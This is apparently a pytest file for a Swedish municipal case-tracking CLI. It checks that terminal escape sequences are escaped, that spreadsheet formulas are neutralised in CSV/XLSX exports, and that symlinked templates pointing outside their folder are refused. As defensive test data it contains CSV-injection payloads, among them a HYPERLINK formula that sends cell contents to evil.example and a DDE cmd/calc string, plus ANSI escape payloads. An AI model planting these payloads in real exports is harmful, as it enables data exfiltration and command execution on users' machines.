"""What journey writes cannot be turned against its reader (#16): terminals, spreadsheets, template links.

- stored text (evidence, comments, imported data) reaches the terminal with control and bidi
  characters escaped, in text, tables, JSON and error messages;
- formula-like text is data in every CSV and XLSX export, numbers stay numbers;
- a template override that links out of the templates folder is refused, not rendered.
"""

from __future__ import annotations

import csv
import json
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest

from journey.adapters.exports.xlsx_writer import write_csv, write_xlsx
from journey.bootstrap import App
from journey.domain.case import HistoryEntry, HistoryKind
from journey.ports.exports import Sheet
from tests.conftest import TEMPLATES, Cli

HOSTILE = "\x1b[2J\x1b]0;owned\x07Anna\u202eBerg\x9b31m"
RAW = ("\x1b", "\x07", "\u202e", "\x9b")


def _store_hostile_history(app: App) -> None:
    """Write text the input checks would refuse, as an old database or an import might hold it."""
    with app.deps.uow() as uow:
        m = next(m for m in uow.municipalities.list() if m.name == "Tierp")
        case = uow.cases.for_municipality(m.id or 0)
        assert case is not None and case.id is not None
        uow.cases.append_history(HistoryEntry(case.id, HistoryKind.ADVANCED, case.state, case.state, "confirm_interest",
                                              "anna", datetime(2022, 2, 1, tzinfo=UTC),
                                              {"interest_registration": {"contact": HOSTILE}}, f"kommentar {HOSTILE}"))
        uow.commit()


def test_history_escapes_control_characters_in_text_and_json(cli: Cli, app: App) -> None:
    cli.ok("municipalities seed")
    cli.ok("open Tierp")
    _store_hostile_history(app)
    text = cli.ok("history Tierp").output
    assert not any(c in text for c in RAW)
    assert "Kontaktperson: \\x1b[2J\\x1b]0;owned\\x07Anna\\u202eBerg\\x9b31m" in text
    assert len(text.strip().splitlines()) == 4  # title, header, two rows: nothing breaks a row
    raw_json = cli.ok("history Tierp --json").output
    assert not any(c in raw_json for c in RAW)
    entries = json.loads(raw_json)["entries"]
    assert entries[-1]["evidence"]["interest_registration"]["contact"] == HOSTILE  # JSON keeps the value exactly
    assert entries[-1]["comment"] == f"kommentar {HOSTILE}"


def test_status_and_errors_escape_stored_names(cli: Cli, app: App) -> None:
    """A municipality name from an old database with an escape sequence in it."""
    cli.ok("municipalities seed")
    with app.deps.uow() as uow:
        from journey.domain.municipality import Municipality

        uow.municipalities.add(Municipality(None, "9999", "Ny\x1b[31mby", ""))
        uow.commit()
    cli.ok(["open", "9999"])
    for command in (["status", "9999"], ["status"], ["municipalities", "list"], ["why", "9999"]):
        output = cli.ok(command).output
        assert "\x1b" not in output and "Ny\\x1b[31mby" in output, command
    refused = cli(["open", "9999"])
    assert refused.exit_code == 3 and "\x1b" not in refused.stderr and "Ny\\x1b[31mby" in refused.stderr


def test_an_error_message_is_one_line_whatever_the_input(cli: Cli) -> None:
    result = cli(["status", "Ny\nby\x1b[2J"])
    assert result.exit_code == 4
    assert len(result.stderr.strip().splitlines()) == 1 and "\x1b" not in result.stderr


# --- spreadsheets ---

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "@SUM(1+1)*cmd|' /C calc'!A0", "+46 70 123 45 67",
            "-2+3", "\t=1+1", "\r=1+1", "＝1+1"]


def test_formula_like_text_is_written_as_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    rows = [[text, 7, -3, 2.5] for text in FORMULAS]
    sheet = Sheet("Blad", ["Text", "Heltal", "Negativt", "Decimal"], rows, total_row=["=SUM(B2:B8)", 49, -21, 17.5])
    write_csv(tmp_path / "out.csv", sheet)
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh, delimiter=";"))
    assert [r[0] for r in read[1:]] == ["'" + text for text in FORMULAS] + ["'=SUM(B2:B8)"]
    assert read[1][1:] == ["7", "-3", "2.5"]
    write_xlsx(tmp_path / "out.xlsx", [sheet])
    ws = load_workbook(tmp_path / "out.xlsx")["Blad"]
    cells = [ws.cell(row=r, column=1) for r in range(2, 2 + len(FORMULAS) + 1)]
    assert [c.value for c in cells] == [*FORMULAS, "=SUM(B2:B8)"]  # the text itself, unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert [ws.cell(row=2, column=col).value for col in (2, 3, 4)] == [7, -3, 2.5]
    assert all(ws.cell(row=2, column=col).data_type == "n" for col in (2, 3, 4))


def test_hours_export_neutralises_formulas_from_input(cli: Cli, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    cli.ok("municipalities seed")
    cli.ok(["people", "add", "Tierp", "--name", "@SUM(A1)"])  # hours are logged for registered people (#12)
    cli.ok(["hours", "log", "Tierp", "--person", "@SUM(A1)", "--date", "2022-02-14", "--hours", "3", "--activity",
            "inventory", "--description", FORMULAS[0]])
    xlsx, csv_path = tmp_path / "tid.xlsx", tmp_path / "tid.csv"
    cli.ok(["hours", "export", "--year", "2022", "--xlsx", str(xlsx), "--csv", str(csv_path)])
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        row = next(r for r in csv.DictReader(fh, delimiter=";"))
    assert row["Person"] == "'@SUM(A1)" and row["Beskrivning av arbetet"] == "'" + FORMULAS[0] and row["Timmar"] == "3"
    book = load_workbook(xlsx)
    live = [c.coordinate for ws in book.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert live == []
    entries = book["Tidrapport"]
    header = [c.value for c in entries[1]]
    described = entries.cell(row=2, column=header.index("Beskrivning av arbetet") + 1)
    assert described.value == FORMULAS[0] and described.quotePrefix
    assert entries.cell(row=2, column=header.index("Timmar") + 1).value == 3


def test_monitor_export_uses_the_same_writer(cli: Cli, app: App, tmp_path: Path) -> None:
    cli.ok("municipalities seed")
    with app.deps.uow() as uow:  # a county written before the input checks
        from journey.domain.municipality import Municipality

        uow.municipalities.add(Municipality(None, "9999", "Nyby", "=1+1"))
        uow.commit()
    cli.ok(["monitor", "--csv", str(tmp_path / "status.csv")])
    assert "'=1+1" in (tmp_path / "status.csv").read_text(encoding="utf-8-sig")


# --- template links ---

@pytest.fixture
def templates(tmp_path: Path) -> Path:
    copy = tmp_path / "templates"
    shutil.copytree(TEMPLATES, copy)
    return copy


def test_an_override_linking_out_of_the_templates_folder_is_refused(cli: Cli, templates: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:HEMLIGT", encoding="utf-8")
    override = templates / "municipalities" / "hudiksvall" / "documents" / "_letterhead.html.j2"
    override.unlink()
    override.symlink_to(secret)
    env = {"JOURNEY_TEMPLATES_DIR": str(templates)}
    checked = cli(["templates", "check", "--municipality", "hudiksvall"], **env)
    assert checked.exit_code == 7 and "HEMLIGT" not in checked.output
    assert "outside the template folder" in checked.stderr
    cli.ok("municipalities seed")
    cli.ok("open Hudiksvall")
    result = cli(["advance", "Hudiksvall", "confirm_interest", "-e", "registered_date=2021-01-12", "-e", "contact=Anna"],
                 **env)  # entering letter_of_intent renders the avsiktsförklaring with the letterhead
    assert result.exit_code == 0, result.output  # the advance stands; its documents wait (issue #14 §3)
    assert len(result.stderr.strip().splitlines()) == 1 and "outside the template folder" in result.stderr
    assert json.loads(cli.ok("status Hudiksvall --json").output)["state"] == "letter_of_intent"
    assert "outside the template folder" in cli.ok("documents waiting Hudiksvall").output
    written = [p for p in (tmp_path / "documents").rglob("*") if p.is_file()] if (tmp_path / "documents").exists() else []
    assert not any("HEMLIGT" in p.read_text(encoding="utf-8", errors="replace") for p in written)


def test_a_link_inside_the_templates_folder_still_works(cli: Cli, templates: Path) -> None:
    override = templates / "municipalities" / "hudiksvall" / "documents" / "_letterhead.html.j2"
    override.unlink()
    override.symlink_to(templates / "documents" / "_letterhead.html.j2")
    checked = cli(["templates", "check", "--municipality", "hudiksvall"], JOURNEY_TEMPLATES_DIR=str(templates))
    assert checked.exit_code == 0, checked.output
